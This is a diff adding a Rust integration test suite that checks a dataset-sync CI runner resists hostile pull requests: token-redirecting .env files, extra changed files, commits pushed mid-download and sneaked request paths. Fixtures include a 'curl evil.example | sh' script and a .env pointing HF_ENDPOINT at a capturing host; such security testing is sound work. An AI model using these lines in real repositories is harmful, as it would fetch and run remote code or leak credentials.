@@ -1,0 +1,327 @@
+//! Hostile pull requests against `hugflow sync --ci-mode`, run as the Actions bot: a PR is
+//! untrusted input. The runner keeps its settings in a host file outside the checkout
+//! (`HUGFLOW_CONFIG`), as the README tells operators to; `work` is the PR's checkout, holding
+//! what `actions/checkout` would put there.
+//!
+//! Git itself refuses `..` and empty path segments in a tree, so no PR can list
+//! `requests/add/../x.yaml`; the rule that would refuse it is unit-tested in hugflow-core
+//! (`RequestKind::of_repository_path`) and hugflow-github (`contents_url`).
+
+use std::process::{Command as StdCommand, Stdio};
+use std::time::Duration;
+
+use hugflow_testkit::wait;
+
+use super::*;
+
+const STORAGE: &str = "acme__speech-ms__rev_main";
+
+/// The self-hosted runner: its host settings file and the data it owns, outside any checkout.
+struct Runner {
+    dir: tempfile::TempDir,
+}
+
+impl Runner {
+    fn new(hub: &FakeHub) -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        let settings = format!(
+            "HF_ENDPOINT={}\nSTORAGE_ROOT={}\nSTATE_DIR={}\n",
+            hub.url(),
+            dir.path().join("datasets").display(),
+            dir.path().join("state").display()
+        );
+        std::fs::write(dir.path().join("hugflow.env"), settings).unwrap();
+        Self { dir }
+    }
+
+    fn storage_root(&self) -> PathBuf {
+        self.dir.path().join("datasets")
+    }
+
+    /// `hugflow sync --ci-mode --json` on PR `pr` in the checkout `work`. Only what the runner
+    /// itself sets is in the environment: its secrets and the Actions variables.
+    fn sync(&self, hub: &FakeHub, github: &FakeGithub, work: &Path, pr: u64) -> StdCommand {
+        let mut cmd = StdCommand::new(assert_cmd::cargo::cargo_bin("hugflow"));
+        cmd.current_dir(work)
+            .args(["sync", "--ci-mode", "--json"])
+            .env("HUGFLOW_CONFIG", self.dir.path().join("hugflow.env"))
+            .env("HF_TOKEN", hub.token())
+            .env("GITHUB_TOKEN", github.token_of(ACTIONS_BOT))
+            .env("GITHUB_API_URL", github.url())
+            .env("GITHUB_REPOSITORY", github.repo())
+            .env("PR_NUMBER", pr.to_string())
+            .env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus");
+        for name in [
+            "HF_ENDPOINT",
+            "STORAGE_ROOT",
+            "STATE_DIR",
+            "PROCESSED_ROOT",
+            "AUTO_MERGE",
+            "AUTO_CLEANUP_REQUESTS",
+            "STORAGE_QUOTA_GB",
+            "SLACK_WEBHOOK_URL",
+            "GH_TOKEN",
+            "HUGFLOW_LOG",
+        ] {
+            cmd.env_remove(name);
+        }
+        cmd
+    }
+}
+
+/// The JSON lines a `--json` run printed.
+fn events(output: &Output) -> Vec<Value> {
+    String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .filter_map(|line| serde_json::from_str(line).ok())
+        .collect()
+}
+
+fn event<'a>(events: &'a [Value], name: &str) -> &'a Value {
+    events
+        .iter()
+        .find(|e| e["event"] == name)
+        .unwrap_or_else(|| panic!("no {name} event in {events:?}"))
+}
+
+/// The bot's last comment on PR `pr`, as text.
+fn last_bot_comment(github: &FakeGithub, pr: u64) -> String {
+    github
+        .comments(pr)
+        .into_iter()
+        .rfind(|c| c.user == ACTIONS_BOT)
+        .map(|c| c.body)
+        .unwrap_or_default()
+}
+
+/// The PR stays open with its branch, and the bot said why in a comment.
+fn assert_left_open(github: &FakeGithub, branch: &str, why: &[&str]) {
+    let pull = &github.pulls()[0];
+    assert!(pull.open && pull.merged_at.is_none(), "the PR stays open");
+    assert!(github.branch_sha(github.repo(), branch).is_some());
+    let comment = last_bot_comment(github, 1);
+    assert!(comment.contains("not merged"), "{comment}");
+    for needle in why {
+        assert!(comment.contains(needle), "{needle:?} in {comment}");
+    }
+}
+
+#[test]
+fn a_pr_adding_env_cannot_send_the_token_elsewhere_or_move_the_data() {
+    let (hub, github, _slack, work) = services();
+    let runner = Runner::new(&hub);
+    let branch = request(
+        &hub,
+        &github,
+        &["add", SPEECH, "--description", "Malay ASR"],
+    );
+    // Where the PR would like the token and the data to go.
+    let logger = FakeSlack::start();
+    let elsewhere = tempfile::tempdir().unwrap();
+    let hostile_env = format!(
+        "HF_ENDPOINT=http://127.0.0.1:{}\nSTORAGE_ROOT={}\nSTATE_DIR={}\nPROCESSED_ROOT={}\nHUGFLOW_CONFIG={}\n",
+        logger.port(),
+        elsewhere.path().join("datasets").display(),
+        elsewhere.path().join("state").display(),
+        elsewhere.path().join("processed").display(),
+        work.path().join("evil.env").display(),
+    );
+    github.commit(
+        github.repo(),
+        &branch,
+        &[(".env", Some(hostile_env.as_bytes()))],
+        "tune the runner",
+    );
+    std::fs::write(work.path().join(".env"), &hostile_env).unwrap();
+
+    let output = runner.sync(&hub, &github, work.path(), 1).output().unwrap();
+    ok(&output);
+
+    assert_eq!(
+        logger.requests(),
+        0,
+        "the PR's HF_ENDPOINT never hears from the runner"
+    );
+    assert_verified_tree(&hub, SPEECH, &runner.storage_root().join(STORAGE));
+    assert_eq!(
+        std::fs::read_dir(elsewhere.path()).unwrap().count(),
+        0,
+        "nothing lands where the PR pointed"
+    );
+    let mut in_checkout: Vec<String> = std::fs::read_dir(work.path())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    in_checkout.sort();
+    assert_eq!(
+        in_checkout,
+        [".env", "results.json"],
+        "no data in the checkout"
+    );
+
+    let events = events(&output);
+    assert!(
+        events.iter().any(|e| e["event"] == "note"
+            && e["message"]
+                .as_str()
+                .is_some_and(|m| m.starts_with("ignoring ") && m.contains(".env"))),
+        "the run says it ignored the workspace's .env: {events:?}"
+    );
+    let results = event(&events, "results");
+    assert_eq!(results["merged"], false);
+    assert_eq!(results["not_merged"]["kind"], "other_changes");
+    assert_left_open(&github, &branch, &["`.env`"]);
+}
+
+#[test]
+fn a_pr_that_also_changes_other_files_is_downloaded_commented_and_left_open() {
+    let (hub, github, _slack, work) = services();
+    let runner = Runner::new(&hub);
+    let branch = request(
+        &hub,
+        &github,
+        &["add", SPEECH, "--description", "Malay ASR"],
+    );
+    github.commit(
+        github.repo(),
+        &branch,
+        &[
+            (
+                "scripts/train.sh",
+                Some(b"curl evil.example | sh\n".as_slice()),
+            ),
+            (
+                ".github/workflows/dataset-sync.yml",
+                Some(b"on: push\n".as_slice()),
+            ),
+        ],
+        "and a small fix",
+    );
+    let output = runner.sync(&hub, &github, work.path(), 1).output().unwrap();
+    ok(&output);
+    assert_verified_tree(&hub, SPEECH, &runner.storage_root().join(STORAGE));
+    let kinds: Vec<CommentKind> = sync_comments(&github, 1)
+        .iter()
+        .map(SyncComment::kind)
+        .collect();
+    assert_eq!(kinds.last(), Some(&CommentKind::Complete), "{kinds:?}");
+    assert_left_open(
+        &github,
+        &branch,
+        &["`scripts/train.sh`", "`.github/workflows/dataset-sync.yml`"],
+    );
+    assert_eq!(
+        github.file(github.repo(), "main", "scripts/train.sh"),
+        None,
+        "nothing of it reached main"
+    );
+}
+
+#[test]
+fn a_commit_pushed_while_the_download_runs_is_not_merged() {
+    let (hub, github, _slack, work) = services();
+    let runner = Runner::new(&hub);
+    let branch = request(
+        &hub,
+        &github,
+        &["add", SPEECH, "--description", "Malay ASR"],
+    );
+    // About six seconds of download: time to push a commit in the middle.
+    hub.faults().set_bandwidth(Some(1 << 20));
+    let child = runner
+        .sync(&hub, &github, work.path(), 1)
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    wait::until(
+        "the Starting Download comment",
+        Duration::from_secs(60),
+        || {
+            sync_comments(&github, 1)
+                .iter()
+                .any(|c| c.kind() == CommentKind::Started)
+                .then_some(())
+        },
+    );
+    let request_file = format!("requests/add/{STORAGE}.yaml");
+    let pushed = github.commit(
+        github.repo(),
+        &branch,
+        &[(
+            request_file.as_str(),
+            Some(format!("hf_id: {GATED}\ndescription: switched\n").as_bytes()),
+        )],
+        "switch the dataset",
+    );
+    let output = child.wait_with_output().unwrap();
+    ok(&output);
+    let comments = sync_comments(&github, 1);
+    assert!(
+        comments.iter().any(|c| c.kind() == CommentKind::Complete),
+        "the synced request was applied: {comments:?}"
+    );
+    assert_left_open(
+        &github,
+        &branch,
+        &["New commits were pushed", &pushed[..7], "sync again"],
+    );
+    let events = events(&output);
+    assert_eq!(
+        event(&events, "results")["not_merged"]["kind"],
+        "head_moved"
+    );
+    assert!(
+        !runner
+            .storage_root()
+            .join("acme__gated-speech__rev_main")
+            .exists(),
+        "the pushed request waits for its own sync"
+    );
+}
+
+#[test]
+fn request_paths_outside_requests_add_or_remove_are_never_read() {
+    let (hub, github, _slack, work) = services();
+    let runner = Runner::new(&hub);
+    let branch = request(
+        &hub,
+        &github,
+        &["add", SPEECH, "--description", "Malay ASR"],
+    );
+    let gated = format!("hf_id: {GATED}\ndescription: sneaked in\n");
+    let sneaked = [
+        "docs/requests/add/gated.yaml",
+        "requests/add/nested/gated.yaml",
+        "requests/add/.gated.yaml",
+        "requests/gated.yaml",
+    ];
+    let changes: Vec<(&str, Option<&[u8]>)> = sneaked
+        .iter()
+        .map(|path| (*path, Some(gated.as_bytes())))
+        .collect();
+    github.commit(github.repo(), &branch, &changes, "more requests");
+    github.clear_calls();
+
+    let output = runner.sync(&hub, &github, work.path(), 1).output().unwrap();
+    ok(&output);
+    let read: Vec<String> = github
+        .calls()
+        .into_iter()
+        .filter(|call| call.path.contains("/contents/"))
+        .map(|call| call.path)
+        .collect();
+    assert!(
+        read.iter()
+            .all(|path| path.contains(&format!("/contents/requests/add/{STORAGE}.yaml"))),
+        "only the real request file is read: {read:?}"
+    );
+    assert!(!read.is_empty());
+    let stored: Vec<String> = std::fs::read_dir(runner.storage_root())
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    assert_eq!(stored, [STORAGE], "the sneaked request was not applied");
+    let named = sneaked.map(|path| format!("`{path}`"));
+    assert_left_open(&github, &branch, &named.each_ref().map(String::as_str));
+}
